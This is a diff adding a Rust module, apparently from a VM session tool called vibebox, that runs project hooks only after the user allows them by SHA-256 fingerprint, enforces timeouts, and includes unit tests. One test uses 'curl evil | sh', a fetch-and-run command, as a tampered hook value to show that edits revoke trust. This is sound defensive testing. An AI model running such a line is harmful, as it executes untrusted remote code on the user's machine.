@@ -0,0 +1,353 @@
+use std::{
+    collections::BTreeMap,
+    env, fs, io,
+    os::{fd::AsFd, unix::process::CommandExt},
+    path::{Path, PathBuf},
+    process::{Command, ExitStatus, Stdio},
+    thread,
+    time::{Duration, Instant},
+};
+
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::{config::HooksConfig, session_manager::GLOBAL_DIR_NAME};
+
+const POLL_INTERVAL: Duration = Duration::from_millis(20);
+/// Which `[hooks]` the user allowed for each project, in `~/.vibebox`, out of every guest's reach.
+pub const TRUSTED_HOOKS_FILE_NAME: &str = "trusted_hooks.toml";
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct TrustedHooks {
+    /// Project directory to the fingerprint of its allowed `[hooks]`.
+    #[serde(default)]
+    projects: BTreeMap<String, String>,
+}
+
+/// `~/.vibebox/trusted_hooks.toml`.
+pub fn trusted_hooks_path() -> io::Result<PathBuf> {
+    let home = env::var_os("HOME")
+        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "HOME is not set"))?;
+    Ok(PathBuf::from(home)
+        .join(GLOBAL_DIR_NAME)
+        .join(TRUSTED_HOOKS_FILE_NAME))
+}
+
+/// SHA-256 of the hooks as vibebox reads them, so any edit needs a new `vibebox allow-hooks`.
+pub fn fingerprint(config: &HooksConfig) -> String {
+    let canonical = toml::to_string(config).unwrap_or_default();
+    Sha256::digest(canonical.as_bytes())
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect()
+}
+
+fn has_commands(config: &HooksConfig) -> bool {
+    [
+        &config.pre_start,
+        &config.post_boot,
+        &config.on_attach,
+        &config.on_detach,
+        &config.post_stop,
+    ]
+    .into_iter()
+    .any(|command| command.as_deref().is_some_and(|c| !c.trim().is_empty()))
+}
+
+fn project_key(project_root: &Path) -> String {
+    fs::canonicalize(project_root)
+        .unwrap_or_else(|_| project_root.to_path_buf())
+        .display()
+        .to_string()
+}
+
+fn read_trusted(trust_file: &Path) -> io::Result<TrustedHooks> {
+    match fs::read_to_string(trust_file) {
+        Ok(raw) => toml::from_str(&raw).map_err(io::Error::other),
+        Err(err) if err.kind() == io::ErrorKind::NotFound => Ok(TrustedHooks::default()),
+        Err(err) => Err(err),
+    }
+}
+
+/// Whether `config` is exactly what the user allowed for `project_root`. The guest can edit
+/// `vibebox.toml` through the project mount, so hooks never run on its word alone.
+pub fn is_allowed(trust_file: &Path, project_root: &Path, config: &HooksConfig) -> bool {
+    if !has_commands(config) {
+        return true;
+    }
+    read_trusted(trust_file)
+        .ok()
+        .and_then(|trusted| trusted.projects.get(&project_key(project_root)).cloned())
+        .is_some_and(|allowed| allowed == fingerprint(config))
+}
+
+/// Records `config` as allowed for `project_root`.
+pub fn allow(trust_file: &Path, project_root: &Path, config: &HooksConfig) -> io::Result<()> {
+    let mut trusted = read_trusted(trust_file)?;
+    let key = project_key(project_root);
+    if has_commands(config) {
+        trusted.projects.insert(key, fingerprint(config));
+    } else {
+        trusted.projects.remove(&key);
+    }
+    if let Some(parent) = trust_file.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    let tmp = trust_file.with_extension("toml.tmp");
+    fs::write(&tmp, toml::to_string(&trusted).map_err(io::Error::other)?)?;
+    fs::rename(tmp, trust_file)
+}
+
+/// The hooks to run for `project_root`: `config` once allowed, none otherwise.
+pub fn allowed_or_none(project_root: &Path, config: HooksConfig) -> HooksConfig {
+    let allowed = trusted_hooks_path()
+        .map(|path| is_allowed(&path, project_root, &config))
+        .unwrap_or(false);
+    if allowed {
+        return config;
+    }
+    tracing::warn!(
+        "skipping [hooks]: they changed since `vibebox allow-hooks` or were never allowed"
+    );
+    HooksConfig {
+        timeout_ms: config.timeout_ms,
+        ..HooksConfig::default()
+    }
+}
+
+/// A point in a session's life that can run a `[hooks]` command.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HookEvent {
+    /// Before the VM boots; the manager waits for it.
+    PreStart,
+    /// Once the guest finished its login actions.
+    PostBoot,
+    OnAttach,
+    OnDetach,
+    /// After the VM stopped; the manager waits for it before exiting.
+    PostStop,
+}
+
+impl HookEvent {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            HookEvent::PreStart => "pre_start",
+            HookEvent::PostBoot => "post_boot",
+            HookEvent::OnAttach => "on_attach",
+            HookEvent::OnDetach => "on_detach",
+            HookEvent::PostStop => "post_stop",
+        }
+    }
+}
+
+#[derive(Debug)]
+enum HookOutcome {
+    Exited(ExitStatus),
+    TimedOut,
+}
+
+/// Runs `[hooks]` commands with `sh -c` from the project directory. Each one gets
+/// `VIBEBOX_HOOK`, `VIBEBOX_PROJECT_DIR`, `VIBEBOX_PROJECT_NAME`, `VIBEBOX_INSTANCE_DIR` and,
+/// once known, `VIBEBOX_SESSION_ID`, plus whatever the event adds.
+#[derive(Debug, Clone, Default)]
+pub struct Hooks {
+    config: HooksConfig,
+    project_root: PathBuf,
+    env: Vec<(&'static str, String)>,
+}
+
+impl Hooks {
+    pub fn new(
+        config: HooksConfig,
+        project_root: &Path,
+        instance_dir: &Path,
+        session_id: Option<&str>,
+    ) -> Self {
+        let project_name = project_root
+            .file_name()
+            .map(|name| name.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        let mut env = vec![
+            ("VIBEBOX_PROJECT_DIR", project_root.display().to_string()),
+            ("VIBEBOX_PROJECT_NAME", project_name),
+            ("VIBEBOX_INSTANCE_DIR", instance_dir.display().to_string()),
+        ];
+        if let Some(id) = session_id {
+            env.push(("VIBEBOX_SESSION_ID", id.to_string()));
+        }
+        Self {
+            config,
+            project_root: project_root.to_path_buf(),
+            env,
+        }
+    }
+
+    fn command(&self, event: HookEvent) -> Option<&str> {
+        let command = match event {
+            HookEvent::PreStart => &self.config.pre_start,
+            HookEvent::PostBoot => &self.config.post_boot,
+            HookEvent::OnAttach => &self.config.on_attach,
+            HookEvent::OnDetach => &self.config.on_detach,
+            HookEvent::PostStop => &self.config.post_stop,
+        };
+        command
+            .as_deref()
+            .filter(|command| !command.trim().is_empty())
+    }
+
+    /// Runs the hook for `event`, if any, and waits for it. Failures are only logged; a hook
+    /// never stops the session.
+    pub fn run(&self, event: HookEvent, extra_env: &[(&'static str, String)]) {
+        let Some(command) = self.command(event) else {
+            return;
+        };
+        let hook = event.as_str();
+        tracing::info!(hook, command, "running hook");
+        let started = Instant::now();
+        match self.execute(event, command, extra_env) {
+            Ok(HookOutcome::Exited(status)) if status.success() => {
+                tracing::info!(
+                    hook,
+                    elapsed_ms = started.elapsed().as_millis(),
+                    "hook finished"
+                );
+            }
+            Ok(HookOutcome::Exited(status)) => {
+                tracing::warn!(hook, %status, "hook failed");
+            }
+            Ok(HookOutcome::TimedOut) => {
+                tracing::warn!(
+                    hook,
+                    timeout_ms = self.config.timeout_ms,
+                    "hook timed out and was killed"
+                );
+            }
+            Err(err) => {
+                tracing::warn!(hook, error = %err, "hook could not be started");
+            }
+        }
+    }
+
+    /// Like [`Hooks::run`], on its own thread, for events the manager must not wait on.
+    pub fn spawn(&self, event: HookEvent, extra_env: Vec<(&'static str, String)>) {
+        if self.command(event).is_none() {
+            return;
+        }
+        let hooks = self.clone();
+        thread::spawn(move || hooks.run(event, &extra_env));
+    }
+
+    /// Hook output goes to our stderr, which is `vm_manager.log` for a detached manager. The
+    /// hook gets its own process group so a timeout also kills what it started.
+    fn execute(
+        &self,
+        event: HookEvent,
+        command: &str,
+        extra_env: &[(&'static str, String)],
+    ) -> io::Result<HookOutcome> {
+        let stderr = io::stderr().as_fd().try_clone_to_owned()?;
+        let stdout = stderr.try_clone()?;
+        let mut child = Command::new("/bin/sh")
+            .arg("-c")
+            .arg(command)
+            .current_dir(&self.project_root)
+            .env("VIBEBOX_HOOK", event.as_str())
+            .envs(self.env.iter().map(|(key, value)| (*key, value)))
+            .envs(extra_env.iter().map(|(key, value)| (*key, value)))
+            .stdin(Stdio::null())
+            .stdout(Stdio::from(stdout))
+            .stderr(Stdio::from(stderr))
+            .process_group(0)
+            .spawn()?;
+        let deadline = Instant::now() + Duration::from_millis(self.config.timeout_ms);
+        loop {
+            if let Some(status) = child.try_wait()? {
+                return Ok(HookOutcome::Exited(status));
+            }
+            if Instant::now() >= deadline {
+                unsafe {
+                    libc::killpg(child.id() as libc::pid_t, libc::SIGKILL);
+                }
+                let _ = child.wait();
+                return Ok(HookOutcome::TimedOut);
+            }
+            thread::sleep(POLL_INTERVAL);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+
+    fn hooks(project: &Path, config: HooksConfig) -> Hooks {
+        Hooks::new(config, project, &project.join(".vibebox"), Some("abc"))
+    }
+
+    #[test]
+    fn hook_sees_session_environment() {
+        let temp = tempfile::tempdir().unwrap();
+        let hooks = hooks(
+            temp.path(),
+            HooksConfig {
+                on_attach: Some(
+                    "echo \"$VIBEBOX_HOOK $VIBEBOX_SESSION_ID $VIBEBOX_CLIENTS $(pwd -P)\" > out"
+                        .into(),
+                ),
+                ..HooksConfig::default()
+            },
+        );
+        hooks.run(HookEvent::OnAttach, &[("VIBEBOX_CLIENTS", "2".into())]);
+        hooks.run(HookEvent::OnDetach, &[]);
+
+        let out = fs::read_to_string(temp.path().join("out")).unwrap();
+        let cwd = fs::canonicalize(temp.path()).unwrap();
+        assert_eq!(out.trim(), format!("on_attach abc 2 {}", cwd.display()));
+    }
+
+    #[test]
+    fn hooks_need_to_be_allowed_again_after_any_edit() {
+        let temp = tempfile::tempdir().unwrap();
+        let trust_file = temp.path().join("home").join(TRUSTED_HOOKS_FILE_NAME);
+        let project = temp.path().join("project");
+        fs::create_dir_all(&project).unwrap();
+        let mut config = HooksConfig {
+            pre_start: Some("./proxy.sh".into()),
+            ..HooksConfig::default()
+        };
+
+        assert!(is_allowed(&trust_file, &project, &HooksConfig::default()));
+        assert!(!is_allowed(&trust_file, &project, &config));
+        allow(&trust_file, &project, &config).unwrap();
+        assert!(is_allowed(&trust_file, &project, &config));
+        assert!(!is_allowed(&trust_file, temp.path(), &config));
+
+        config.post_stop = Some("curl evil | sh".into());
+        assert!(!is_allowed(&trust_file, &project, &config));
+        config.post_stop = None;
+        config.timeout_ms += 1;
+        assert!(!is_allowed(&trust_file, &project, &config));
+    }
+
+    #[test]
+    fn slow_hooks_are_killed_at_the_timeout() {
+        let temp = tempfile::tempdir().unwrap();
+        let hooks = hooks(
+            temp.path(),
+            HooksConfig {
+                timeout_ms: 100,
+                ..HooksConfig::default()
+            },
+        );
+        let started = Instant::now();
+        let outcome = hooks
+            .execute(HookEvent::PostStop, "sleep 5 & sleep 5", &[])
+            .unwrap();
+        assert!(matches!(outcome, HookOutcome::TimedOut), "{outcome:?}");
+        assert!(started.elapsed() < Duration::from_secs(2));
+
+        let outcome = hooks.execute(HookEvent::PostStop, "exit 3", &[]).unwrap();
+        assert!(matches!(outcome, HookOutcome::Exited(status) if status.code() == Some(3)));
+    }
+}